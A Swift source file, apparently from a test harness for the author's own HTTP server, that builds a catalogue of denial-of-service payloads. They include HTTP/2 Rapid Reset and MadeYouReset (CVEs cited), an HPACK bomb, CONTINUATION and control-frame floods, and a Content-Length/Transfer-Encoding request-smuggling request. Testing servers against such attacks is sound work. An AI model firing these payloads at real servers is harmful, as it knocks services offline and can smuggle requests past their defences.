// Attacks that send as fast as the server takes it.
extension Attack {
    /// All of them.
    package static let floods = floodsOfStreams + floodsOfFields + floodsOfFrames + floodsOfConnections

    /// Requests that are begun and not brought to their end (CVE-2023-44487, CVE-2025-8671).
    private static let floodsOfStreams = [
        Attack("rapid reset", next: rapidReset),
        Attack("rapid reset, not reading", reads: false, next: rapidReset),
        Attack("made you reset", next: madeYouReset),
        Attack("made you reset, not reading", reads: false, next: madeYouReset),
        Attack("too many streams", next: endlessPost),
        Attack("too many streams, not reading", reads: false, next: endlessPost),
        Attack("requests, not reading", reads: false) {
            Frame.make(.headers, .request, stream: stream($0), Frame.get)
        },
        Attack("a body without an end", opening: Frame.hello + endlessPost(0)) { _ in
            Frame.make(.data, stream: 1, [UInt8](repeating: 0x20, count: 16_000))
        },
        untakenAnswers,
    ]

    /// A window for nothing, and behind each request a body of 64,000 bytes, which is as much as most may have.
    private static let untakenAnswers = Attack(
        "bodies whose answers are not taken",
        opening: hello(window: 0)
    ) { number in
        let id = stream(number)
        let part = [UInt8](repeating: 0x20, count: 16_000)
        return endlessPost(number) + (0..<4).flatMap { Frame.make(.data, $0 == 3 ? .endStream : [], stream: id, part) }
    }

    private static let rapidReset: @Sendable (UInt32) -> [UInt8] = {
        Frame.make(.headers, .request, stream: stream($0), Frame.get) + Frame.cancel(stream($0))
    }

    /// A window that grows by nothing is an error of the stream, which the server must reset.
    private static let madeYouReset: @Sendable (UInt32) -> [UInt8] = {
        endlessPost($0) + Frame.windowUpdate(stream($0), 0)
    }

    /// A request whose body may follow.
    static let endlessPost: @Sendable (UInt32) -> [UInt8] = {
        Frame.make(.headers, .endHeaders, stream: stream($0), Frame.post)
    }

    /// Blocks of fields that are long, or become long.
    private static let floodsOfFields = [
        Attack("empty field names") {
            Frame.make(.headers, .request, stream: stream($0), Frame.get + [0, 0, 0])
        },
        Attack("an endless header block", opening: Frame.hello + openBlock) { _ in
            Frame.make(.continuation, stream: 1, Frame.literal("x", "y"))
        },
        Attack("an endless header block of nothing", opening: Frame.hello + openBlock) { _ in
            Frame.make(.continuation, stream: 1)
        },
        Attack(
            "HPACK bomb",
            opening: Frame.hello
                + Frame.make(
                    .headers,
                    .request,
                    stream: 1,
                    Frame.get + Frame.remembered("x-bomb", String(repeating: "b", count: 4_000))
                )
        ) {
            let bomb = [UInt8](repeating: Frame.indexed, count: 16_000)
            return Frame.make(.headers, .request, stream: stream($0 + 1), Frame.get + bomb)
        },
        Attack("huge fields") {
            let long = (0..<3).flatMap { Frame.literal("x-\($0)", String(repeating: "x", count: 4_000)) }
            return Frame.make(.headers, .endStream, stream: stream($0), Frame.get + long)
                + Frame.make(.continuation, .endHeaders, stream: stream($0), long)
        },
    ]

    /// HEADERS whose block goes on.
    static let openBlock = Frame.make(.headers, .endStream, stream: 1, Frame.get)

    /// Frames that bring no request forward.
    private static let floodsOfFrames = [
        Attack("SETTINGS") { _ in Frame.settings() },
        Attack("SETTINGS, not reading", reads: false) { _ in Frame.settings() },
        Attack("SETTINGS of table sizes, not reading", reads: false) { _ in Frame.settings((1, 0), (1, 4_096)) },
        Attack("PING") { _ in ping },
        Attack("PING, not reading", reads: false) { _ in ping },
        Attack("empty DATA", opening: Frame.hello + endlessPost(0)) { _ in Frame.make(.data, stream: 1) },
        Attack("padding", opening: Frame.hello + endlessPost(0)) { _ in
            Frame.make(.data, .padded, stream: 1, [255] + [UInt8](repeating: 0, count: 255))
        },
        Attack("PRIORITY") { Frame.make(.priority, stream: stream($0), Frame.bigEndian(0) + [15]) },
        Attack("WINDOW_UPDATE") { _ in Frame.windowUpdate(0, 1) },
        Attack("unknown frames") { _ in Frame.make(.unknown) },
        Attack("long unknown frames") { _ in Frame.make(.unknown, [], [UInt8](repeating: 1, count: 16_384)) },
    ]

    static let ping = Frame.make(.ping, [], [UInt8](repeating: 0, count: 8))

    /// Connections that come for nothing, and what HTTP/1.1 cannot mean (RFC 9112, section 11.2).
    private static let floodsOfConnections = [
        Attack(
            "connections that come and go",
            opening: Frame.hello + Frame.make(.headers, .request, stream: 1, Frame.get),
            pace: .never
        ),
        Attack("a wrong preface", opening: Array("PRI * HTTP/3.0\r\n\r\nSM\r\n\r\n".utf8)),
        Attack("a handshake of noise", opening: [UInt8](repeating: 0xEE, count: 512), doors: [.belowTLS]),
        Attack(
            "smuggled requests",
            opening: http1(
                "POST /v1/offers",
                "Content-Length: 4",
                "Transfer-Encoding: chunked",
                end: "0\r\n\r\nGET / HTTP/1.1\r\n"
            ),
            doors: [.cleartext]
        ),
        Attack("endless HTTP/1.1 fields", opening: http1("GET /healthz", end: nil), doors: [.cleartext]) {
            Array("X-\($0): \(String(repeating: "x", count: 1_000))\r\n".utf8)
        },
        Attack("HTTP/1.1 requests in a row", opening: http1("GET /openapi.yaml"), doors: [.cleartext]) { _ in
            http1("GET /openapi.yaml")
        },
    ]

    /// A request of HTTP/1.1; `end` comes behind its head, and `nil` leaves the head open.
    static func http1(_ start: String, _ fields: String..., end: String? = "") -> [UInt8] {
        let lines = ["\(start) HTTP/1.1", "Host: localhost"] + fields
        let head = lines.map { $0 + "\r\n" }.joined()
        return Array((end.map { head + "\r\n" + $0 } ?? head).utf8)
    }
}
